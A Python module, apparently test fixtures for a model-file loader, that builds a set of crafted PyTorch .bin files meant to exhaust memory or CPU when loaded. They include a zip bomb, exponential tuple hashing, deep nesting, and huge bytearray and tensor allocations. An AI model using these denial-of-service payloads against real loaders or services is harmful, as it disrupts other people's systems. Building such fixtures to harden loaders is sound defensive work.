"""Pickles that run no code and still cost more than they hold: name → the bytes of a .bin file."""

import io
import struct
import zipfile

import torch

PROTOCOL, STOP = b"\x80\x02", b"."


def archive(pickle: bytes, more: int = 0, compression: int = zipfile.ZIP_STORED) -> bytes:
    """A file of torch with `pickle` as its content, and `more` zeros as the numbers of a tensor."""
    buffer = io.BytesIO()
    torch.save({"x": torch.zeros(1 + more // 4)}, buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as before, zipfile.ZipFile(out, "w", compression) as after:
        for name in before.namelist():
            after.writestr(name, pickle if pickle and name.endswith("data.pkl") else before.read(name))
    return out.getvalue()


def called(name: str, number: int) -> bytes:
    """NAME(number), as a pickle."""
    return PROTOCOL + b"c" + name.replace(".", "\n", 1).encode() + b"\n\x8a\x08" + struct.pack("<q", number) + b"\x85R."


def doubled_tuples(levels: int) -> bytes:
    """A tuple that holds the one before twice, as the key of a dict: hashing it takes 2^levels steps."""
    pickle = PROTOCOL + b"}q\0K\1\x85q\1"
    for level in range(2, levels):
        pickle += bytes([0x68, level - 1]) * 2 + bytes([0x86, 0x71, level])
    return pickle + bytes([0x68, 0, 0x68, levels - 1]) + b"K\1s."


def shared_dicts(levels: int) -> bytes:
    """2^levels names."""
    part = {"x": torch.ones(1)}
    for _ in range(levels):
        part = {"a": part, "b": part}
    buffer = io.BytesIO()
    torch.save(part, buffer)
    return buffer.getvalue()


def stretched(numbers: int) -> bytes:
    """One number as a tensor of so many."""
    buffer = io.BytesIO()
    torch.save({"x": torch.ones(1).expand(numbers)}, buffer)
    return buffer.getvalue()


def legacy(pickle: bytes) -> bytes:
    """As the numbers' description in the older format."""
    return pickle * 5


BOMBS = {
    "doubled tuples": archive(doubled_tuples(60)),
    "nested tuples": archive(PROTOCOL + b"}K\1" + b"\x85" * 10**6 + b"K\1s."),
    "bytearray": archive(called("builtins.bytearray", 10**10)),
    "tensor by size": archive(called("torch.FloatTensor", 10**9)),
    "counter": archive(called("collections.Counter", 1)),
    "zip bomb": archive(b"", 10**8, zipfile.ZIP_DEFLATED),
    "nested lists": archive(PROTOCOL + b"]" * 10**5 + b"a" * (10**5 - 1) + STOP),
    "nested dicts": archive(PROTOCOL + b"}" + b"K\1}" * 10**5 + b"s" * 10**5 + STOP),
    "shared dicts": shared_dicts(40),
    "stretched": stretched(10**10),
    "long number": archive(PROTOCOL + b"\x8b\xff\xff\xff\x7f1."),
    "long text": archive(PROTOCOL + b"X\xff\xff\xff\x7f1."),
    "legacy tuples": legacy(doubled_tuples(60)),
    "legacy bytearray": legacy(called("builtins.bytearray", 10**10)),
}
